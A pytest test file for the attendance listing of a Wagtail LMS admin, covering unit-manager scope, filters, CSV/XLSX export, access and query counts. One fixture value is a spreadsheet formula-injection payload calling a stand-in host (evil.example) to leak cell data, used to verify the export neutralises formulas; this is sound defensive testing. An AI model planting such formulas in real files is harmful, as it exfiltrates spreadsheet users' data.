"""The attendance listing of the Wagtail admin: scope, filters, export (formula-safe), access,
query budget."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from courses import services
from courses.models import AttendanceRecord, AttendanceStatus
from lms import roles
from lms.services import assign_unit_manager, enroll
from tests.factories import (
    LearnerProfileFactory,
    UnitFactory,
    UserFactory,
    make_course,
    make_session,
)

INDEX = reverse("cds_courses_attendance:index")
HEADERS = [
    "Learner",
    "Email",
    "Unit code",
    "Unit",
    "Course",
    "Session",
    "Session starts",
    "Status",
    "Remark",
    "Recorded through",
    "Walk-in",
    "Recorded by",
    "Recorded",
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def neighbour(province):
    """A district next to the manager's: same province, outside their subtree."""
    unit = UnitFactory(
        code="H-KX", name="Huyện Kiến Xương", kind="district", parent=province["root"]
    )
    unit.refresh_from_db()
    return unit


@pytest.fixture
def records(province, neighbour, site_admin):
    """Attendance at two sessions of two courses, one record per kind of learner:

    - a district learner and a commune learner (the manager's subtree), at the hall session;
    - the neighbour district's learner, at the hall session, with a remark that is a formula;
    - the commune learner again, absent from a second course's session.
    """
    hall_course = make_course(lessons=0, delivery_mode="blended", title="Nông nghiệp số")
    other_course = make_course(lessons=0, delivery_mode="blended", title="Chính quyền số")
    hall = make_session(hall_course, title="Buổi tại hội trường")
    other = make_session(other_course, title="Buổi thực hành", starts_in_hours=72)
    district = LearnerProfileFactory(unit=province["district"], full_name="Nguyễn Văn Huyện")
    commune = LearnerProfileFactory(unit=province["commune"], full_name="Phạm Thị Xã")
    next_door = LearnerProfileFactory(unit=neighbour, full_name="Đỗ Văn Bên")

    def attend(profile, session, status, remark=""):
        enroll(user=profile.user, course=session.course)
        services.register(session=session, user=profile.user)
        return services.mark_attendance(
            session=session, learner_id=profile.user_id, status=status, remark=remark, by=site_admin
        ).record

    return {
        "district": attend(district, hall, AttendanceStatus.PRESENT),
        "commune": attend(commune, hall, AttendanceStatus.LATE),
        "neighbour": attend(next_door, hall, AttendanceStatus.PRESENT, remark=FORMULA),
        "absent": attend(commune, other, AttendanceStatus.ABSENT, remark="Ốm"),
        "sessions": {"hall": hall, "other": other},
        "courses": {"hall": hall_course, "other": other_course},
    }


def listed(response) -> list[int]:
    return sorted(record.pk for record in response.context["object_list"])


def pks(*records) -> list[int]:
    return sorted(record.pk for record in records)


def export(client, fmt, **params):
    response = client.get(INDEX, {**params, "export": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8"))))
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return workbook.active


# --- listing and scope ----------------------------------------------------------------------


def test_administrator_lists_every_record_with_its_columns(records, site_admin, admin_login):
    response = admin_login(site_admin).get(INDEX)

    assert response.status_code == 200
    assert listed(response) == pks(
        records["district"], records["commune"], records["neighbour"], records["absent"]
    )
    html = response.content.decode()
    for text in [
        "Nguyễn Văn Huyện",
        "Huyện Kiến Xương",
        "Nông nghiệp số",
        "Buổi tại hội trường",
        "Present",
        "Late",
        "Absent",
        "Ốm",
        "Attendance sheet",
    ]:
        assert text in html, text


def test_unit_manager_lists_only_their_subtrees_learners(records, unit_manager, admin_login):
    response = admin_login(unit_manager).get(INDEX)

    assert response.status_code == 200
    assert listed(response) == pks(records["district"], records["commune"], records["absent"])
    assert "Đỗ Văn Bên" not in response.content.decode()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_unit_manager_export_leaves_out_the_neighbour_units_learner(
    records, unit_manager, admin_login, fmt
):
    rows = export(admin_login(unit_manager), fmt)
    if fmt == "xlsx":
        rows = [list(row) for row in rows.iter_rows(values_only=True)]

    assert rows[0] == HEADERS
    assert sorted(row[0] for row in rows[1:]) == ["Nguyễn Văn Huyện", "Phạm Thị Xã", "Phạm Thị Xã"]
    assert not any("Kiến Xương" in str(cell) or "Bên" in str(cell) for row in rows for cell in row)


def test_unit_manager_cannot_filter_their_way_to_the_neighbour(
    records, neighbour, unit_manager, admin_login
):
    client = admin_login(unit_manager)

    response = client.get(INDEX, {"unit": neighbour.pk})

    assert records["neighbour"].pk not in listed(response)
    units = response.context["filters"].form.fields["unit"].queryset
    assert [unit.code for unit in units] == ["H-VT", "X-VT-01"]
    rows = export(client, "csv", unit=neighbour.pk)
    assert not any("Đỗ Văn Bên" in cell for row in rows for cell in row)


def test_filters_narrow_the_list(records, province, superuser, admin_login):
    client = admin_login(superuser)

    def filtered(**params):
        return listed(client.get(INDEX, params))

    assert filtered(course=records["courses"]["other"].pk) == pks(records["absent"])
    assert filtered(session=records["sessions"]["hall"].pk) == pks(
        records["district"], records["commune"], records["neighbour"]
    )
    assert filtered(status="late") == pks(records["commune"])
    assert filtered(unit=province["commune"].pk) == pks(records["commune"], records["absent"])
    assert filtered(unit=province["district"].pk, status="absent") == pks(records["absent"])
    assert filtered(q="Phạm Thị") == pks(records["commune"], records["absent"])


# --- export ---------------------------------------------------------------------------------


def test_export_writes_records_as_people_read_them_and_formulas_as_text(
    records, site_admin, admin_login
):
    client = admin_login(site_admin)

    rows = export(client, "csv", ordering="learner_name")

    by_name = {row[0]: row for row in rows[1:]}
    neighbour = by_name["Đỗ Văn Bên"]
    assert neighbour[1:8] == [
        records["neighbour"].user.email,
        "H-KX",
        "Huyện Kiến Xương",
        "Nông nghiệp số",
        "Buổi tại hội trường",
        neighbour[6],
        "Present",
    ]
    # A spreadsheet would run the remark as a formula: the CSV cell starts with an apostrophe
    assert neighbour[8] == "'" + FORMULA
    assert neighbour[9] == "Attendance sheet"
    assert neighbour[11] == "site-admin@example.gov.vn"  # no profile: the username

    sheet = export(client, "xlsx", ordering="learner_name")
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    remark = cells["Đỗ Văn Bên"][8]
    assert remark.value == FORMULA and remark.data_type == "s"


# --- access ---------------------------------------------------------------------------------


def test_the_listing_is_read_only(records, superuser, admin_login):
    client = admin_login(superuser)
    record = records["district"]

    assert client.get(f"{INDEX}new/").status_code == 404
    assert client.get(f"{INDEX}edit/{record.pk}/").status_code == 404
    assert client.get(f"{INDEX}delete/{record.pk}/").status_code == 404


def test_trainers_and_learners_have_no_attendance_listing(
    records, learner, role_groups, admin_login
):
    trainer = UserFactory(username="trainer@example.gov.vn")
    trainer.groups.add(role_groups[roles.TRAINER])
    for params in ({}, {"export": "csv"}):
        response = admin_login(trainer).get(INDEX, params)
        assert response.status_code == 302
        assert response.url == reverse("wagtailadmin_home")

    response = admin_login(learner).get(INDEX)
    assert response.status_code == 302
    assert response.url.startswith(reverse("wagtailadmin_login"))


# --- query budget ---------------------------------------------------------------------------


def _records(rows: int, site_admin):
    """`rows` attendance records of learners spread over a small tree, and its manager."""
    root = UnitFactory(code="TINH", name="Tỉnh", kind="province")
    units = [root, *(UnitFactory(parent=root) for _ in range(3))]
    course = make_course(lessons=0, delivery_mode="blended")
    session = make_session(course, capacity=rows)
    for n in range(rows):
        profile = LearnerProfileFactory(unit=units[n % len(units)])
        enroll(user=profile.user, course=course)
        services.register(session=session, user=profile.user)
        services.mark_attendance(
            session=session,
            learner_id=profile.user_id,
            status=AttendanceStatus.PRESENT,
            by=site_admin,
        )
    manager = LearnerProfileFactory(unit=root).user
    assign_unit_manager(user=manager, unit=root)
    return manager


# The attendance index costs a unit manager 14 queries, for 3 rows as for 30:
#   1  the user (the session is read from the cache)
#   2  the user's permissions (own, then through groups), cached for the request
#   1  the user's Wagtail profile (admin language and time zone)
#   1  the roots the user manages, for the records' scope (scope_paths)
#   1  the same roots, for the choices of the unit filter (managed_by)
#   1  the count for the paginator
#   1  the courses offered by the course filter
#   1  the sessions offered by the session filter
#   1  the units offered by the unit filter
#   1  the records of the page, learner, unit, course and session annotated in (one query)
#   3  Wagtail's own furniture: the locales for the admin's JS config, and the user's page
#      and collection permissions for the sidebar menu
ATTENDANCE_INDEX_QUERIES = 14


@pytest.mark.parametrize("rows", [3, 30])
def test_attendance_index_query_count_does_not_grow_with_rows(
    site_admin, admin_login, django_assert_num_queries, rows
):
    manager = _records(rows, site_admin)
    client = admin_login(manager)
    client.get(INDEX)  # warm the per-process caches (content types, site root)

    with django_assert_num_queries(ATTENDANCE_INDEX_QUERIES):
        response = client.get(INDEX)

    assert len(response.context["object_list"]) == rows
    assert AttendanceRecord.objects.count() == rows
